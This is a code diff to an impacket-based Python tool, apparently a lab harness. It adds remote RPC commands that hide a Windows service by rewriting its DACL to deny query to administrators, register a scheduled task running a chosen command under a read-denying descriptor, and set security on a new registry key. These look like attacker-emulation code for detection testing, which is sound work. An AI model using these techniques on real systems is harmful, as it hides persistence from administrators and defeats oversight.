@@ -27,7 +27,8 @@ lab's Kerberos realm LAB.EXAMPLE the same name and password).
 import argparse
 import sys
 
-from impacket.dcerpc.v5 import atsvc, epm, lsad, scmr, transport, tsch
+from impacket.dcerpc.v5 import atsvc, epm, lsad, rrp, scmr, transport, tsch
+from impacket.dcerpc.v5.ndr import NDRCALL
 from impacket.dcerpc.v5.dtypes import NULL
 from impacket.dcerpc.v5.rpcrt import (RPC_C_AUTHN_GSS_NEGOTIATE, RPC_C_AUTHN_LEVEL_CONNECT,
                                       RPC_C_AUTHN_LEVEL_PKT_PRIVACY, DCERPCException)
@@ -177,6 +178,88 @@ def at_job(a):
     dce.disconnect()
 
 
+class SetServiceObjectSecurity(NDRCALL):
+    """RSetServiceObjectSecurity as MS-SCMR's IDL has it: the descriptor a [ref] conformant
+    array. impacket 0.10's scmr.RSetServiceObjectSecurity sends a referent id before it (an
+    LPBYTE), and its hRSetServiceObjectSecurity never sets the bytes at all."""
+    opnum = 5
+    structure = (
+        ("hService", scmr.SC_RPC_HANDLE),
+        ("dwSecurityInformation", scmr.SECURITY_INFORMATION),
+        ("lpSecurityDescriptor", scmr.BYTE_ARRAY),
+        ("cbBufSize", scmr.DWORD),
+    )
+
+
+class SetServiceObjectSecurityResponse(NDRCALL):
+    structure = (("ErrorCode", scmr.DWORD),)
+
+
+def sd_hide_service(a):
+    """sc sdset's trick over svcctl: the service's DACL read, replaced by one that denies
+    query to users, services and administrators, read again."""
+    from sd_build import build
+    sd = build(a.sddl)
+    dce = smb_dce(a.target, "svcctl")
+    dce.bind(scmr.MSRPC_UUID_SCMR)
+    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
+    svc = scmr.hROpenServiceW(dce, scm, a.name + "\0")["lpServiceHandle"]
+
+    def attempt(what, fn):  # a refusal is reported, and the client goes on as sc would not
+        try:
+            fn()
+        except DCERPCException as e:
+            print("%s: %s" % (what, e))
+
+    attempt("RQueryServiceObjectSecurity",
+            lambda: scmr.hRQueryServiceObjectSecurity(dce, svc, scmr.DACL_SECURITY_INFORMATION))
+    req = SetServiceObjectSecurity()
+    req["hService"] = svc
+    req["dwSecurityInformation"] = scmr.DACL_SECURITY_INFORMATION
+    req["lpSecurityDescriptor"] = list(sd)
+    req["cbBufSize"] = len(sd)
+    attempt("RSetServiceObjectSecurity", lambda: dce.request(req))
+    print("%s: %s (%d bytes)" % (a.name, a.sddl, len(sd)))
+    attempt("RQueryServiceObjectSecurity",
+            lambda: scmr.hRQueryServiceObjectSecurity(dce, svc, scmr.DACL_SECURITY_INFORMATION))
+    scmr.hRCloseServiceHandle(dce, svc)
+    scmr.hRCloseServiceHandle(dce, scm)
+    dce.disconnect()
+
+
+def sd_hide_task(a):
+    """A task registered with an SDDL that denies reading it, then its security set again
+    by SchRpcSetSecurity, then deleted."""
+    dce = smb_dce(a.target, "atsvc")
+    dce.bind(tsch.MSRPC_UUID_TSCHS)
+    xml = TASK_XML % (esc(a.command), esc(a.arguments))
+    tsch.hSchRpcRegisterTask(dce, a.task, xml, tsch.TASK_CREATE, a.sddl, tsch.TASK_LOGON_NONE)
+    tsch.hSchRpcSetSecurity(dce, a.task, a.set_sddl, 0)
+    tsch.hSchRpcDelete(dce, a.task)
+    dce.disconnect()
+
+
+def sd_key(a):
+    """BaseRegSetKeySecurity on a key made for it (HKLM\\<subkey>)."""
+    from sd_build import build
+    sd = build(a.sddl)
+    dce = smb_dce(a.target, "winreg")
+    dce.bind(rrp.MSRPC_UUID_RRP)
+    hklm = rrp.hOpenLocalMachine(dce)["phKey"]
+    key = rrp.hBaseRegCreateKey(dce, hklm, a.subkey + "\0")["phkResult"]
+    req = rrp.BaseRegSetKeySecurity()
+    req["hKey"] = key
+    req["SecurityInformation"] = scmr.DACL_SECURITY_INFORMATION
+    req["pRpcSecurityDescriptor"]["lpSecurityDescriptor"] = list(sd)
+    req["pRpcSecurityDescriptor"]["cbInSecurityDescriptor"] = len(sd)
+    req["pRpcSecurityDescriptor"]["cbOutSecurityDescriptor"] = len(sd)
+    dce.request(req)
+    print("%s: %s" % (a.subkey, a.sddl))
+    rrp.hBaseRegCloseKey(dce, key)
+    rrp.hBaseRegCloseKey(dce, hklm)
+    dce.disconnect()
+
+
 def main():
     ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     sub = ap.add_subparsers(dest="cmd", required=True)
@@ -208,6 +291,24 @@ def main():
     p.add_argument("target")
     p.add_argument("command")
     p.set_defaults(fn=at_job)
+    p = sub.add_parser("sd-hide-service")
+    p.add_argument("target")
+    p.add_argument("name")
+    p.add_argument("sddl")
+    p.set_defaults(fn=sd_hide_service)
+    p = sub.add_parser("sd-hide-task")
+    p.add_argument("target")
+    p.add_argument("task")
+    p.add_argument("command")
+    p.add_argument("arguments")
+    p.add_argument("sddl")
+    p.add_argument("set_sddl")
+    p.set_defaults(fn=sd_hide_task)
+    p = sub.add_parser("sd-key")
+    p.add_argument("target")
+    p.add_argument("subkey")
+    p.add_argument("sddl")
+    p.set_defaults(fn=sd_key)
     a = ap.parse_args()
     a.fn(a)
 
